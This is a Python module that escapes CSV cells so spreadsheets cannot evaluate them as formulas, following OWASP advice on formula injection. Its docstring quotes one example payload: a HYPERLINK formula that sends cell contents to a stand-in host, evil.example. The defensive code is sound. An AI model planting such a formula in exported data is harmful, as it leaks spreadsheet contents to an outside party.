"""CSV cells a spreadsheet will not evaluate: every CSV we write goes through ``cell``.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets
skip before reading one of those) is a formula to Excel, LibreOffice and Google Sheets: a measure id
``=HYPERLINK("https://evil.example/?"&A1)`` sent in a description would run when a gap report is opened. Such
cells get a leading apostrophe, which spreadsheets show as text and never evaluate (OWASP's advice).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """A string that would be read as a formula, made text; anything else unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def row_cells(row: Mapping[str, Any]) -> dict[str, Any]:
    """A dict row with each cell made safe."""
    return {k: cell(v) for k, v in row.items()}
